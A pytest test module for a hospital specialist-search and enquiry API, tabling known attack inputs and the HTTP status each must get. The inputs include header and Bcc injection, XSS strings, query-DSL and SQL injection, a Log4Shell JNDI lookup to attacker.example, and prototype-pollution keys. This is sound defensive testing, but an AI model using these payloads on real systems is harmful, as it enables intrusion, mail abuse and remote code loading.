"""A table of known attacks, each with the status it must get.

Every row also gets the checks of every hostile request (``tests/hostile/support.py``): no
5xx, no leaked internals, only the API's own headers with no line breaks in them. An
accepted enquiry is read back from the table and both e-mails built from it are checked
(only the templates' headers; typed values escaped in the HTML part).
"""

from __future__ import annotations

import dataclasses
import json
from dataclasses import dataclass
from typing import Any

import boto3
import pytest
from chalice.test import Client

from tests.conftest import BASE_ENV
from tests.hostile.mail import check_emails, check_stored, stored
from tests.hostile.support import ALLOWED_ORIGIN, Answer, answer_of, check, encode_query, get

pytestmark = pytest.mark.integration

GOOD: dict[str, Any] = {
    "specialist_id": "krish-nandy",
    "hospital_id": "hendon",
    "treatment": "Psychodynamic therapy",
    "first_name": "Aoife",
    "last_name": "O'Brien-Nunez",
    "email": "aoife@example.com",
    "phone": "020 7946 0000",
    "preferred_contact": "email",
    "message": "I would like an appointment.",
    "consent": True,
    "consent_version": "2026-11",
}
GOOD_JSON = json.dumps(GOOD)
KNOWN_ID = "krish-nandy"


@dataclass(frozen=True)
class Get:
    """A GET with the query as (name, value) pairs, percent-encoded unless ``raw``."""

    path: str
    status: int
    params: tuple[tuple[str, str], ...] = ()
    field: str | None = None
    raw: bool = False
    headers: dict[str, str] = dataclasses.field(default_factory=dict)
    finds: str | None = None  # a specialist id the results must hold

    @property
    def url(self) -> str:
        query = encode_query(list(self.params), raw=self.raw)
        return f"{self.path}?{query}" if query else self.path


def q(value: str, status: int = 200, *, raw: bool = False, finds: str | None = None) -> Get:
    return Get("/specialists", status, (("q", value),), "q" if status == 400 else None, raw=raw, finds=finds)


def typed(value: str, status: int = 200) -> Get:
    return Get("/suggest", status, (("q", value),), "q" if status == 400 else None)


def param(name: str, value: str, status: int = 400, *others: tuple[str, str], path: str = "/specialists") -> Get:
    return Get(path, status, ((name, value), *others), name if status == 400 else None)


def profile(specialist_id: str, status: int = 404) -> Get:
    return Get("/specialists/" + specialist_id, status)


SEARCH_ATTACKS: dict[str, Get] = {
    # --- header injection ---------------------------------------------------------------
    "crlf-in-q": q("psychiatrist\r\nSet-Cookie: session=stolen\r\nX-Injected: 1"),
    "crlf-in-q-raw": q("psychiatrist\r\nX-Injected: 1", raw=True),
    "encoded-crlf-in-q": q("psychiatrist%0d%0aX-Injected:%201"),
    "double-encoded-crlf-in-q": Get("/specialists?q=psychiatrist%250d%250aX-Injected:%25201", 200),
    "crlf-in-near": param("near", "NW4\r\nX-Injected: 1"),
    "crlf-in-parameter-name": Get("/specialists", 400, (("q\r\nX-Injected: 1", "x"),), "q\r\nX-Injected: 1"),
    "crlf-in-profile-id": profile("krish-nandy%0d%0aX-Injected:%201"),
    "crlf-in-origin": Get("/specialists", 200, headers={"Origin": f"{ALLOWED_ORIGIN}\r\nX-Injected: 1"}),
    "origin-prefix-trick": Get("/specialists", 200, headers={"Origin": f"{ALLOWED_ORIGIN}.evil.example"}),
    "origin-null": Get("/specialists", 200, headers={"Origin": "null"}),
    # --- HTML and script -----------------------------------------------------------------
    "script-in-q": q("<script>alert(1)</script>"),
    "img-onerror-in-q": q('"><img src=x onerror=alert(1)>'),
    "javascript-url-in-q": q("javascript:alert(document.cookie)"),
    "script-in-typeahead": typed("<script>alert(1)</script>"),
    "img-onerror-in-typeahead": typed('"><img src=x onerror=alert(1)>'),
    "script-as-parameter-name": Get(
        "/specialists", 400, (("<script>alert(1)</script>", "1"),), "<script>alert(1)</script>"
    ),
    "script-in-hospital-facet": param("hospital", "<script>alert(1)</script>"),
    "script-in-specialty-facet": param("specialty", "<script>alert(1)</script>", 200),
    "script-as-profile-id": profile("%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    "script-in-near": param("near", "<script>alert(1)</script>"),
    # --- query-DSL syntax in q: always just words ------------------------------------------
    "lucene-match-all": q("*:*"),
    "lucene-field-query": q("name:foo AND"),
    "lucene-boolean-ops": q("nandy OR * AND NOT psychiatrist || && !"),
    "lucene-backslash": q("\\"),
    "lucene-regex": q("/.*/"),
    "lucene-range": q("[* TO *]"),
    "lucene-fuzzy-and-boost": q("nandy~10^1000"),
    "lucene-unbalanced": q('(((("nandy'),
    "lucene-exists": q("_exists_:team_email"),
    "json-query-dsl": q('{"query": {"match_all": {}}}'),
    "json-script-query": q('{"script": {"source": "System.exit(0)"}}'),
    "mustache": q("{{suggestion}}"),
    "mustache-section": q("{{#toJson}}_source{{/toJson}}"),
    "painless": q("doc['team_email'].value"),
    "sql": q("' OR '1'='1' --"),
    "log4shell": q("${jndi:ldap://attacker.example/a}"),
    "lucene-in-typeahead": typed("*:* AND /.*/"),
    "mustache-in-typeahead": typed("{{suggestion}}"),
    "dsl-in-specialty": param("specialty", '*,{"match_all":{}}', 200),
    "wildcard-profile-id": profile("krish-*"),
    "all-profile-id": profile("_all"),
    "search-api-profile-id": profile("_search"),
    "dot-dot-profile-id": profile(".."),
    # --- oversize --------------------------------------------------------------------------
    "q-10k-chars": q("a" * 10_000, 400),
    "q-201-chars": q("a" * 201, 400),
    "q-200-one-letter-words": q("a " * 100),
    "q-200-char-token": q("a" * 200),
    "typeahead-10k-chars": typed("a" * 10_000, 400),
    "near-10k-chars": param("near", "a" * 10_000),
    "specialty-10k-values": param("specialty", ",".join(["psychiatry"] * 10_000)),
    "specialty-repeated-21-times": Get("/specialists", 400, (("specialty", "psychiatry"),) * 21, "specialty"),
    "specialty-20-values": param("specialty", ",".join(f"s{n}" for n in range(20)), 200),
    "specialty-one-10k-char-value": param("specialty", "a" * 10_000, 200),
    "hospital-10k-char-value": param("hospital", "a" * 10_000),
    "100-unknown-parameters": Get("/specialists", 400, tuple((f"p{n:03}", "x") for n in range(100)), "p000"),
    "q-repeated": Get("/specialists", 400, (("q", "a"), ("q", "b")), "q"),
    "limit-repeated": Get("/suggest", 400, (("limit", "1"), ("limit", "1")), "limit"),
    "page-with-5000-digits": param("page", "1" * 5000),
    "page-size-with-5000-digits": param("page_size", "9" * 5000),
    "limit-with-5000-digits": param("limit", "1" * 5000, path="/suggest"),
    "lat-with-5000-digits": param("lat", "1" * 5000, 400, ("lon", "0")),
    # --- deep paging -----------------------------------------------------------------------
    "page-at-the-window": param("page", "100", 200, ("page_size", "10")),
    "page-past-the-window": param("page", "101", 400, ("page_size", "10")),
    "page-1000-size-1": param("page", "1000", 200, ("page_size", "1")),
    "page-1000-size-2": param("page", "1000", 400, ("page_size", "2")),
    "page-1001": param("page", "1001"),
    "page-huge": param("page", "99999999999999999999"),
    "page-2-pow-63": param("page", str(2**63)),
    "page-zero": param("page", "0"),
    "page-negative": param("page", "-1"),
    "page-float": param("page", "1.5"),
    "page-exponent": param("page", "1e3"),
    "page-1e309": param("page", "1e309"),
    "page-nan": param("page", "NaN"),
    "page-padded": param("page", " 1"),
    "page-plus": param("page", "+1"),
    "page-hex": param("page", "0x10"),
    "page-arabic-digit": param("page", "\u0663"),
    "page-fullwidth-digit": param("page", "\uff11"),
    "page-leading-zeros": param("page", "0002", 200),
    "page-size-51": param("page_size", "51"),
    "page-size-zero": param("page_size", "0"),
    "limit-11": param("limit", "11", path="/suggest"),
    "limit-negative": param("limit", "-1", path="/suggest"),
    "lat-1e309": param("lat", "1e309", 400, ("lon", "0")),
    "lat-nan": param("lat", "NaN", 400, ("lon", "0")),
    "lat-infinity": param("lat", "Infinity", 400, ("lon", "0")),
    "lat-91": param("lat", "91", 400, ("lon", "0")),
    "lat-negative-zero": param("lat", "-0", 200, ("lon", "-0.0")),
    "lat-without-lon": Get("/specialists", 400, (("lat", "51.5"),), "lon"),
    "radius-below-minimum": param("radius_miles", "1e-400", 400, ("near", "NW4")),
    "radius-infinite": param("radius_miles", "1e999", 400, ("near", "NW4")),
    "sort-distance-without-place": param("sort", "distance"),
    "sort-injection": param("sort", "name; DROP TABLE"),
    "boolean-yes": param("sees_children", "yes"),
    # --- unicode tricks --------------------------------------------------------------------
    "rtl-override-in-q": q("\u202eydnan"),
    "zero-width-in-q": q("na\u200bn\u200cd\u200dy\u2060", finds=KNOWN_ID),
    "bom-in-q": q("\ufeffnandy", finds=KNOWN_ID),
    "soft-hyphen-in-q": q("nan\u00addy", finds=KNOWN_ID),
    "fullwidth-q": q("\uff4e\uff41\uff4e\uff44\uff59", finds=KNOWN_ID),
    "cyrillic-homoglyph-q": q("n\u0430ndy"),
    "combining-marks-q": q("n\u0301" * 100),
    "nfkc-ligatures-overflow-q": q("\ufb03" * 100, 400),
    "nfkc-ligature-within-q": q("\ufb03" * 66),
    "nfkc-arabic-ligature-overflow-q": q("a" * 190 + "\ufdfa", 400),
    "nfkc-overflow-typeahead": typed("\ufb03" * 50, 400),
    "nfkc-overflow-near": param("near", "\ufb03" * 50),
    "overlong-utf8-in-q": Get("/specialists?q=%C0%AE%C0%AE%2F", 200),
    "invalid-utf8-in-q": Get("/specialists?q=%FF%FE%FD", 200),
    "surrogate-bytes-in-q": Get("/specialists?q=%ED%A0%80", 200),
    "lone-surrogate-in-q": q("\ud800nandy", raw=True),
    "nul-in-q": q("nandy\x00"),
    "nul-in-q-raw": q("nandy\x00", raw=True),
    "control-chars-in-q": q("".join(chr(n) for n in range(32)) + "nandy", finds=KNOWN_ID),
    "emoji-in-q": q("\U0001f9e0 psychiatrist"),
    "unicode-comma-facets": param("specialty", "psychiatry\uff0cpsychology", 200),
    "uppercase-gender": param("gender", "FEMALE", 200),
    "turkish-dotless-gender": param("gender", "male\u0131"),
    "homoglyph-gender": param("gender", "m\u0430le"),
    "homoglyph-hospital": param("hospital", "hend\u043en"),
    "non-breaking-hyphen-profile-id": profile("krish\u2011nandy"),
    "fullwidth-profile-id": profile("%EF%BD%8Brish-nandy"),
    "uppercase-profile-id": profile("KRISH-NANDY"),
    "trailing-nul-profile-id": profile("krish-nandy%00"),
    "known-profile-id": profile(KNOWN_ID, 200),
    "homoglyph-parameter-name": Get("/specialists", 400, (("\u0440age", "2"),), "\u0440age"),
    "fullwidth-parameter-name": Get("/specialists", 400, (("\uff51", "nandy"),), "\uff51"),
    "unknown-typeahead-parameter": param("type", "specialist", path="/suggest"),
}


@pytest.mark.parametrize("attack", SEARCH_ATTACKS.values(), ids=SEARCH_ATTACKS.keys())
def test_a_known_attack_on_search_gets_its_status_and_nothing_more(client: Client, attack: Get) -> None:
    answer = get(client, attack.url, {"Origin": ALLOWED_ORIGIN, **attack.headers})

    check(answer, {attack.status}, attack.url + repr(attack.params) + repr(attack.headers))
    if attack.status == 400:
        assert answer.error["field"] == attack.field, answer.body
    if attack.finds is not None:
        assert attack.finds in {card["id"] for card in answer.body["results"]}, answer.body
    origin = attack.headers.get("Origin", ALLOWED_ORIGIN)
    assert answer.headers.get("Access-Control-Allow-Origin") == (origin if origin == ALLOWED_ORIGIN else None)


@dataclass(frozen=True)
class Post:
    """A POST /enquiries: the good form with ``changes`` (None removes a field), or ``raw`` bytes."""

    status: int
    changes: dict[str, Any] = dataclasses.field(default_factory=dict)
    raw: bytes | None = None
    field: str | None = None
    headers: dict[str, str] = dataclasses.field(default_factory=dict)
    content_type: str | None = "application/json"

    @property
    def body(self) -> bytes:
        if self.raw is not None:
            return self.raw
        merged = {**GOOD, **self.changes}
        return json.dumps({key: value for key, value in merged.items() if value is not None}).encode()


def rejects(name: str, value: Any) -> Post:
    return Post(400, {name: value}, field=name)


def accepts(name: str, value: Any) -> Post:
    return Post(202, {name: value})


def raw(body: bytes | str, status: int = 400, name: str | None = None) -> Post:
    return Post(status, raw=body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body, field=name)


BCC = "\r\nBcc: victim@example.com"
ENQUIRY_ATTACKS: dict[str, Post] = {
    # --- header injection ---------------------------------------------------------------
    "crlf-bcc-in-first-name": rejects("first_name", "Aoife" + BCC),
    "crlf-bcc-in-last-name": rejects("last_name", "Smith" + BCC),
    "lf-in-last-name": rejects("last_name", "Smith\nBcc: victim@example.com"),
    "cr-in-last-name": rejects("last_name", "Smith\rBcc: victim@example.com"),
    "nel-in-last-name": rejects("last_name", "Smith\u0085Bcc: victim@example.com"),
    "line-separator-in-last-name": rejects("last_name", "Smith\u2028Bcc: victim@example.com"),
    "crlf-bcc-in-email": rejects("email", "aoife@example.com" + BCC),
    "crlf-bcc-in-treatment": rejects("treatment", "Knee" + BCC),
    "crlf-subject-in-treatment": rejects("treatment", "Knee\r\nSubject: you won"),
    "encoded-crlf-in-email": rejects("email", "aoife@example.com%0d%0aBcc:victim@example.com"),
    "encoded-crlf-in-last-name": accepts("last_name", "Smith%0d%0aBcc: victim@example.com"),
    "address-list-in-email": rejects("email", "aoife@example.com, victim@example.com"),
    "display-name-in-email": rejects("email", "Aoife <aoife@example.com>"),
    "bcc-in-message-body-only": accepts("message", "Hello" + BCC + "\r\n\r\n<b>body</b>"),
    "crlf-in-phone": rejects("phone", "020 7946 0000" + BCC),
    "crlf-in-preferred-contact": rejects("preferred_contact", "email\r\n"),
    "crlf-in-idempotency-key": Post(400, field="Idempotency-Key", headers={"Idempotency-Key": "k\r\nX-Injected: 1"}),
    "lf-in-idempotency-key": Post(400, field="Idempotency-Key", headers={"Idempotency-Key": "k\nX-Injected: 1"}),
    "encoded-crlf-in-idempotency-key": Post(202, headers={"Idempotency-Key": "k%0d%0aX-Injected:%201"}),
    "crlf-in-content-type": Post(415, content_type="application/json\r\nX-Injected: 1"),
    "crlf-in-origin": Post(202, headers={"Origin": f"{ALLOWED_ORIGIN}\r\nX-Injected: 1"}),
    # --- HTML and script in what reaches the e-mails -----------------------------------------
    "script-in-first-name": accepts("first_name", "<script>alert(1)</script>"),
    "img-onerror-in-last-name": accepts("last_name", '"><img src=x onerror=alert(1)>'),
    "javascript-url-in-treatment": accepts("treatment", "javascript:alert(document.cookie)"),
    "link-in-message": accepts("message", '<a href="javascript:alert(1)">click</a><!-- x -->'),
    "style-in-message": accepts("message", "</div><style>*{display:none}</style><div>"),
    "entity-in-last-name": accepts("last_name", "&lt;script&gt;&amp;"),
    "script-in-specialist-id": rejects("specialist_id", "<script>alert(1)</script>"),
    "script-in-hospital-id": rejects("hospital_id", '"><img src=x onerror=alert(1)>'),
    "script-in-email": rejects("email", "<script>@example.com"),
    "script-in-honeypot": Post(202, {"website": "<script>alert(1)</script>"}),
    # --- query-DSL in the ids that reach search ------------------------------------------------
    "wildcard-specialist-id": rejects("specialist_id", "*"),
    "dsl-specialist-id": rejects("specialist_id", '{"match_all":{}}'),
    "all-specialist-id": rejects("specialist_id", "_all"),
    "unknown-specialist-id": rejects("specialist_id", "no-such-specialist"),
    "other-hospital-id": rejects("hospital_id", "beaumont"),
    # --- general enquiries (no specialist): the ids and slugs that reach search ------------------
    "general-enquiry-for-a-hospital": Post(202, {"specialist_id": None, "treatment": "knee-replacement"}),
    "general-enquiry-for-the-central-team": Post(202, {"specialist_id": None, "hospital_id": None, "treatment": None}),
    "general-enquiry-free-text-treatment": Post(400, {"specialist_id": None}, field="treatment"),
    "general-enquiry-unknown-hospital": Post(
        400, {"specialist_id": None, "treatment": None, "hospital_id": "no-such-hospital"}, field="hospital_id"
    ),
    "general-enquiry-wildcard-hospital": Post(400, {"specialist_id": None, "hospital_id": "*"}, field="hospital_id"),
    "general-enquiry-wildcard-treatment": Post(400, {"specialist_id": None, "treatment": "*"}, field="treatment"),
    "general-enquiry-dsl-treatment": Post(
        400, {"specialist_id": None, "treatment": '{"match_all":{}}'}, field="treatment"
    ),
    "general-enquiry-crlf-in-specialty": Post(
        400,
        {"specialist_id": None, "treatment": None, "specialty": "cardiology" + "\r\nBcc: x@example.com"},
        field="specialty",
    ),
    "general-enquiry-script-in-specialty": Post(
        400, {"specialist_id": None, "treatment": None, "specialty": "<script>alert(1)</script>"}, field="specialty"
    ),
    "general-enquiry-routing-key": Post(
        400, {"specialist_id": None, "routing": {"team_email": "attacker@example.com"}}, field="routing"
    ),
    "specialty-with-a-specialist": rejects("specialty", "psychiatry"),
    # --- oversize ------------------------------------------------------------------------------
    "body-17-kib": Post(413, {"message": "m" * (17 * 1024)}),
    "body-just-over-16-kib": raw(GOOD_JSON + " " * (16 * 1024 + 1 - len(GOOD_JSON)), 413),
    "body-exactly-16-kib": raw(GOOD_JSON + " " * (16 * 1024 - len(GOOD_JSON)), 202),
    "message-2001-chars": rejects("message", "m" * 2001),
    "first-name-81-chars": rejects("first_name", "x" * 81),
    "email-over-254-chars": rejects("email", "a" * 250 + "@example.com"),
    "array-10k-elements": Post(413, {"first_name": [0] * 10_000}),
    "array-5k-elements": rejects("first_name", [0] * 5_000),
    "extra-field-array-5k": Post(400, {"tags": [1] * 5_000}, field="tags"),
    "idempotency-key-10k": Post(400, field="Idempotency-Key", headers={"Idempotency-Key": "k" * 10_000}),
    "idempotency-key-65": Post(400, field="Idempotency-Key", headers={"Idempotency-Key": "k" * 65}),
    "idempotency-key-empty": Post(400, field="Idempotency-Key", headers={"Idempotency-Key": ""}),
    # --- unicode tricks ------------------------------------------------------------------------
    "rtl-override-in-first-name": accepts("first_name", "\u202eefioA"),
    "zero-width-in-last-name": accepts("last_name", "Smi\u200bth"),
    "nfkc-ligatures-in-name-at-limit": accepts("first_name", "\ufb03" * 80),
    "rtl-override-in-email": rejects("email", "\u202eaoife@example.com"),
    "fullwidth-at-in-email": rejects("email", "aoife\uff20example.com"),
    "non-ascii-local-part": rejects("email", "jos\u00e9@example.com"),
    "idn-domain-in-email": accepts("email", "aoife@b\u00fccher.example"),
    "homoglyph-domain-in-email": accepts("email", "aoife@ex\u0430mple.com"),
    "punycode-domain-in-email": accepts("email", "aoife@xn--bcher-kva.example"),
    "non-breaking-hyphen-in-specialist-id": rejects("specialist_id", "krish\u2011nandy"),
    "uppercase-specialist-id": rejects("specialist_id", "KRISH-NANDY"),
    "lone-surrogate-escape": rejects("first_name", "\ud800"),
    "lone-surrogate-raw-bytes": raw(GOOD_JSON.replace("Aoife", "Ao\ud800ife"), 400, "first_name"),
    "overlong-utf8-in-name": raw(GOOD_JSON.encode().replace(b"Aoife", b"Ao\xc0\xafife")),
    "invalid-utf8-body": raw(b"\xff\xfe\xfd"),
    "utf8-bom-body": raw(b"\xef\xbb\xbf" + GOOD_JSON.encode(), 202),
    "utf16-body": raw(GOOD_JSON.encode("utf-16"), 202),
    "nul-in-first-name": rejects("first_name", "Ao\x00ife"),
    "escape-sequence-in-name": rejects("last_name", "\x1b[31mSmith"),
    "nul-in-message": rejects("message", "hello\x00"),
    "tab-in-message": accepts("message", "one\ttwo\r\nthree"),
    # --- JSON oddities ---------------------------------------------------------------------------
    "nan-value": raw(GOOD_JSON.replace("true", "NaN")),
    "infinity-value": raw(GOOD_JSON.replace("true", "Infinity")),
    "minus-infinity-value": raw(GOOD_JSON.replace("true", "-Infinity")),
    "negative-zero-consent": raw(GOOD_JSON.replace("true", "-0"), 400, "consent"),
    "1e999-consent": raw(GOOD_JSON.replace("true", "1e999"), 400, "consent"),
    "5000-digit-number": raw(GOOD_JSON.replace("true", "1" * 5000)),
    "string-consent": rejects("consent", "true"),
    "one-consent": rejects("consent", 1),
    "null-required-field": Post(400, {"first_name": None}, field="first_name"),
    "json-null-first-name": raw(GOOD_JSON.replace('"Aoife"', "null"), 400, "first_name"),
    "duplicate-key": raw(GOOD_JSON[:-1] + ', "email": "victim@example.com"}', 400, "email"),
    "duplicate-escaped-key": raw(GOOD_JSON[:-1] + ', "\\u0065mail": "victim@example.com"}', 400, "email"),
    "escaped-key-alone": raw(GOOD_JSON.replace('"email"', '"\\u0065mail"'), 202),
    "deep-nesting-10k-arrays": raw("[" * 10_000),
    "deep-nesting-10k-arrays-closed": raw("[" * 5_000 + "]" * 5_000),
    "deep-nesting-objects": raw('{"a":' * 2_000 + "1" + "}" * 2_000),
    "deep-nesting-in-field": raw(GOOD_JSON.replace('"Aoife"', "[" * 5_000 + "]" * 5_000)),
    "shallow-nesting-in-field": rejects("first_name", [[[[{"a": [1]}]]]]),
    "top-level-array": raw(f"[{GOOD_JSON}]"),
    "top-level-string": raw('"hello"'),
    "top-level-null": raw("null"),
    "top-level-number": raw("42"),
    "top-level-true": raw("true"),
    "empty-body": raw(b""),
    "whitespace-body": raw(b" \r\n\t "),
    "trailing-garbage": raw(GOOD_JSON + " x"),
    "two-objects": raw(GOOD_JSON + GOOD_JSON),
    "trailing-comma": raw(GOOD_JSON[:-1] + ",}"),
    "block-comment": raw("/* hi */" + GOOD_JSON),
    "line-comment": raw(GOOD_JSON.replace("{", "{// hi\n", 1)),
    "single-quotes": raw(GOOD_JSON.replace('"', "'")),
    "unquoted-keys": raw('{specialist_id: "krish-nandy"}'),
    "proto-key": Post(400, {"__proto__": {"admin": True}}, field="__proto__"),
    "constructor-key": Post(400, {"constructor": {"prototype": {"admin": True}}}, field="constructor"),
    "status-key": Post(400, {"status": "sent"}, field="status"),
    "routing-key": Post(400, {"routing": {"team_email": "attacker@example.com"}}, field="routing"),
    "enquiry-id-key": Post(400, {"enquiry_id": "01JDQ3Z6V8K2M4N6P8R0S2T4V1"}, field="enquiry_id"),
    "empty-key": Post(400, {"": 1}, field=""),
    "object-as-string-field": rejects("email", {"$ne": None}),
    "array-as-string-field": rejects("email", ["aoife@example.com", "victim@example.com"]),
    "number-as-string-field": rejects("last_name", 1e308),
    "bool-as-string-field": rejects("first_name", True),
    # --- content types and methods -------------------------------------------------------------
    "text-plain": Post(415, content_type="text/plain"),
    "form-encoded": Post(415, content_type="application/x-www-form-urlencoded"),
    "no-content-type-is-taken-as-json": Post(202, content_type=None),
    "json-with-charset": Post(202, content_type="application/json; charset=utf-8"),
}


@pytest.mark.parametrize("attack", ENQUIRY_ATTACKS.values(), ids=ENQUIRY_ATTACKS.keys())
def test_a_known_attack_on_enquiries_gets_its_status_and_mails_safely(client: Client, attack: Post) -> None:
    headers = {"Origin": ALLOWED_ORIGIN, **attack.headers}
    if attack.content_type is not None:
        headers["Content-Type"] = attack.content_type
    body = attack.body
    before = stored_count()

    answer: Answer = answer_of(client.http.post("/enquiries", headers=headers, body=body))

    check(answer, {attack.status}, body.decode("utf-8", "replace") + repr(headers))
    if attack.status == 400:
        assert answer.error["field"] == attack.field, answer.body
    if attack.status == 202:
        item = stored(answer.body["enquiry_id"])
        if "website" in attack.changes:
            assert item is None
        else:
            assert item is not None
            check_emails(check_stored(item))
    else:
        assert stored_count() == before


def stored_count() -> int:
    return int(boto3.client("dynamodb").scan(TableName=BASE_ENV["ENQUIRIES_TABLE"], Select="COUNT")["Count"])


def test_a_method_the_route_does_not_take_is_405(client: Client) -> None:
    for method, path in (("PUT", "/enquiries"), ("DELETE", "/specialists"), ("PATCH", f"/specialists/{KNOWN_ID}")):
        response = client.http.request(method, path, headers={"Content-Type": "application/json"}, body=b"{}")
        check(answer_of(response), {405}, method + path)
